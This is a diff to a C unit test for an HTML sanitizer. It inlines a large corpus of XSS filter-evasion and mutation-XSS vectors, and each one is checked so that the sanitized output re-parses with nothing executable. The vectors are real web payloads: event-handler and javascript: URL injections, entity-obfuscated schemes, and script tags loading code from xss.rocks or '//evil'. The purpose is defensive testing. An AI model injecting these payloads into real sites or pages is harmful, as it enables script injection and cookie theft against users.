@@ -11,7 +11,6 @@
 #include <wavelaunch.h>
 
 #include "htmlcheck.h"
-#include "xss_corpus.h"
 
 /* ---- helpers ---- */
 
@@ -71,12 +70,226 @@ static char *repeat(const char *unit, size_t total)
 	return s;
 }
 
-/* ---- the XSS corpus (tests/common/xss_corpus.c): every output must
- * re-parse without executable content. ---- */
+/* ---- the XSS corpus: the classes of the OWASP XSS filter evasion cheat
+ * sheet, plus mutation-XSS vectors from the DOMPurify and browser bug
+ * trackers.  Every output must re-parse without executable content. ---- */
+
+static const char *const xss_vectors[] = {
+	/* plain script, script with odd tokenisation */
+	"<script>alert(1)</script>",
+	"<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
+	"<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+	"<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
+	"<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+	"<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+	"<SCRIPT SRC=//xss.rocks/.j>",
+	"<script>alert(1)",
+	"</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
+	"<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+	"<SCRIPT =\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+	"<SCRIPT a=\">\" '' SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+	"<SCRIPT \"a='>'\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+	"<SCRIPT a=`>` SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+	"<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
+	"<script><!--<script></script><img src=x onerror=alert(1)>--></script>",
+	"<script type=module>import('//evil')</script>",
+	/* javascript: in image and link URLs, every spelling */
+	"<IMG SRC=\"javascript:alert('XSS');\">",
+	"<IMG SRC=javascript:alert('XSS')>",
+	"<IMG SRC=JaVaScRiPt:alert('XSS')>",
+	"<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
+	"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+	"<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+	"<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+	"<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+	"<a href=\" javascript:alert(1)\">x</a>",
+	"<a href=\"javascript&colon;alert(1)\">x</a>",
+	"<a href=\"javascript&#58;alert(1)\">x</a>",
+	"<a href=\"java&Tab;script:alert(1)\">x</a>",
+	"<a href=\"java&NewLine;script:alert(1)\">x</a>",
+	/* entity-encoded schemes: decimal, padded, no semicolons, hex */
+	"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
+	"&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+	"<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
+	"&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
+	"&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
+	"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
+	"&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+	"<a href=\"&#106;avascript:alert(1)\">x</a>",
+	"<a href=\"&#x6A;avascript:alert(1)\">x</a>",
+	"<a href=\"&#X6a;&#X61;vascript:alert(1)\">x</a>",
+	"<a href=\"&#0000106avascript:alert(1)\">x</a>",
+	"<a href=\"&#x0000006A;avascript:alert(1)\">x</a>",
+	"<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
+	"&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
+	"&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+	/* tabs, newlines, carriage returns and controls inside the scheme */
+	"<IMG SRC=\"jav\tascript:alert('XSS');\">",
+	"<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+	"<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+	"<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
+	"<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+	"<a href=\"&#1;javascript:alert(1)\">x</a>",
+	"<a href=\"jav&#x00;ascript:alert(1)\">x</a>",
+	"<a href=\"\x01javascript:alert(1)\">x</a>",
+	"<a href=\"java\nscript:alert(1)\">x</a>",
+	"<a href=\"javascript\t:alert(1)\">x</a>",
+	/* non-alphanumeric tokenisation tricks */
+	"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+	"<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+	"<iframe src=http://xss.rocks/scriptlet.html <",
+	"<IMG SRC=\"javascript:alert('XSS')\"",
+	"<a href=\"javascript:alert(1)\"",
+	"<img/src=x/onerror=alert(1)>",
+	"<img\nsrc=x\nonerror=alert(1)>",
+	"<img src=x onerror\x0c=alert(1)>",
+	/* nested and mis-nested tags */
+	"<scr<script>ipt>alert(1)</scr</script>ipt>",
+	"<<script>script>alert(1)<</script>/script>",
+	"<b><script>alert(1)</b></script>",
+	"<div><p><a href=\"javascript:x\"><table><tr><td><a href=\"javascript:y\">z",
+	"<a href=\"https://ok.example\"><a href=\"javascript:alert(1)\">x</a></a>",
+	"<p><b><i><u>x</b></i></u></p><script>alert(1)</script>",
+	"<table><script>alert(1)</script><tr><td>x</td></tr></table>",
+	"<table><a href=javascript:alert(1)>x</a><tr><td>y</td></tr></table>",
+	/* attribute breakouts: quotes, backticks, unquoted values */
+	"<a title=\"x\" onclick=\"alert(1)\">x</a>",
+	"<a title='x' onclick=alert(1)>x</a>",
+	"<a title=x onclick=alert(1)>x</a>",
+	"<img alt=\"x\" src=\"http://a/ \"onerror=alert(1)>",
+	"<img src=`x` onerror=`alert(1)`>",
+	"<a title=\"&quot; onclick=&quot;alert(1)\">x</a>",
+	"<a title=\"&#34; onclick=&#34;alert(1)\">x</a>",
+	"<a href=\"https://x/&quot;onmouseover=alert(1)//\">x</a>",
+	"<img src=\"https://x/a.png\" alt=\"x\"\"onerror=alert(1)>",
+	"<a title=\"</a><script>alert(1)</script>\">x</a>",
+	"<img src=\"https://x/a.png\" alt=\"<img src=x onerror=alert(1)>\">",
+	"<p title=\"x\" `onclick`=alert(1)>x</p>",
+	/* event handlers in every form */
+	"<body onload=alert(1)>",
+	"<div ONCLICK=alert(1)>x</div>",
+	"<div onclick\t=alert(1)>x</div>",
+	"<div/onclick=alert(1)>x</div>",
+	"<div onclick=\"alert(1)\"onmouseover=alert(2)>x</div>",
+	"<details open ontoggle=alert(1)>x</details>",
+	"<video><source onerror=alert(1)></video>",
+	"<input autofocus onfocus=alert(1)>",
+	"<marquee onstart=alert(1)>x</marquee>",
+	"<body onpageshow=alert(1)>",
+	"<div onpointerover=alert(1)>x</div>",
+	"<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+	"<IMG SRC=# onmouseover=\"alert('xxs')\">",
+	"<IMG SRC= onmouseover=\"alert('xxs')\">",
+	"<IMG onmouseover=\"alert('xxs')\">",
+	"<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+	"<img src=x onerror=alert(1)>",
+	"<img src=\"https://ok.example/a.png\" onload=alert(1)>",
+	/* SVG and MathML */
+	"<svg/onload=alert(1)>",
+	"<svg><script>alert(1)</script></svg>",
+	"<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
+	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+	"<svg><set attributeName=href to=javascript:alert(1)>",
+	"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
+	"<image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>",
+	"<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+	"<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
+	"<svg><title><img src=x onerror=alert(1)></title></svg>",
+	"<svg><style><img src=x onerror=alert(1)></style></svg>",
+	"<math href=\"javascript:alert(1)\">CLICK</math>",
+	"<math><maction actiontype=\"statusline#http://x\" xlink:href=\"javascript:alert(1)\">"
+	"CLICK</maction></math>",
+	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+	"<math><mi><mglyph><svg><mtext><style><img src=x onerror=alert(1)>",
+	"<math><style><img src=x onerror=alert(1)></style></math>",
+	/* data:, vbscript: and other schemes */
+	"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+	"<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+	"<IMG SRC='vbscript:msgbox(\"XSS\")'>",
+	"<a href=\"VBSCRIPT:x\">x</a>",
+	"<a href=\"livescript:x\">x</a>",
+	"<IMG SRC=\"mocha:[code]\">",
+	"<a href=\"file:///etc/passwd\">x</a>",
+	"<a href=\"//evil.example/x\">x</a>",
+	"<a href=\"/\\evil.example\">x</a>",
+	"<a href=\"https:evil.example\">x</a>",
+	"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+	"<img src=\"http://x/\" srcset=\"javascript:alert(1)\">",
+	"<a href=\"https://x\" ping=\"javascript:x\">x</a>",
+	"<IMG DYNSRC=\"javascript:alert('XSS')\">",
+	"<IMG LOWSRC=\"javascript:alert('XSS')\">",
+	"<BGSOUND SRC=\"javascript:alert('XSS');\">",
+	"<BR SIZE=\"&{alert('XSS')}\">",
+	"<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
+	/* CSS */
+	"<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
+	"<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+	"<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
+	"<span style=\"background:url(&#106;avascript:alert(1))\">x</span>",
+	"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
+	"<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
+	"<XSS STYLE=\"behavior: url(xss.htc);\">",
+	"<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
+	"<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
+	"<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert(1)\">x",
+	"<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+	/* base, meta, link */
+	"<BASE HREF=\"javascript:alert('XSS');//\">",
+	"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+	"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
+	"PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
+	"<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
+	"<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
+	/* frames, objects, forms */
+	"<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+	"<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
+	"<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+	"<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
+	"<object data=javascript:alert(1)>",
+	"<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3Jn\""
+	" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
+	"<form action=javascript:alert(1)><button>x</button></form>",
+	"<button formaction=javascript:alert(1)>x</button>",
+	"<input type=image src=javascript:alert(1)>",
+	"<isindex action=javascript:alert(1) type=image>",
+	"<LAYER SRC=\"http://xss.rocks/scriptlet.html\"></LAYER>",
+	"<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
+	"<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">"
+	"<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName="
+	"\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
+	/* mutation XSS: content that re-parses differently in another context */
+	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+	"<svg><p><style><img src=x onerror=alert(1)>",
+	"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+	"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+	"<textarea><img src=x onerror=alert(1)></textarea>",
+	"<textarea></textarea><img src=x onerror=alert(1)>",
+	"<title><img src=x onerror=alert(1)></title>",
+	"<xmp><img src=x onerror=alert(1)></xmp>",
+	"<iframe><img src=x onerror=alert(1)></iframe>",
+	"<template><img src=x onerror=alert(1)></template>",
+	"<noembed><img src=x onerror=alert(1)></noembed>",
+	"<noframes><img src=x onerror=alert(1)></noframes>",
+	"<style><img src=x onerror=alert(1)></style>",
+	"<plaintext><img src=x onerror=alert(1)>",
+	"<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+	"<select><template><style><img src=x onerror=alert(1)>",
+	"<select><iframe></select><img src=x onerror=alert(1)>",
+	"<a href=\"javascript:alert(1)\"><svg><desc><a>x",
+	"<img src=\"x` `<script>alert(1)</script>\"` `>",
+	"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+	"<!-- --!><img src=x onerror=alert(1)> -->",
+	"<![CDATA[><img src=x onerror=alert(1)>]]>",
+	"<?xml-stylesheet href=\"javascript:alert(1)\"?>",
+	"<!DOCTYPE html><img src=x onerror=alert(1)>",
+	"<div id=\"x\" class=\"modal\">x</div>",
+	"<a href=\"https://ok.example\" target=\"_blank\" rel=\"opener\">x</a>",
+	"<img src=\"https://ok.example/a.png\" width=\"100%\" height=\"10 onload=alert(1)\">",
+};
 
 Test(sanitize, xss_corpus_outputs_nothing_executable)
 {
-	size_t n = xss_vectors_count;
+	size_t n = sizeof(xss_vectors) / sizeof(xss_vectors[0]);
 	for (size_t i = 0; i < n; i++) {
 		char *out = sanitize(xss_vectors[i]);
 		expect_safe_and_stable(xss_vectors[i], out);
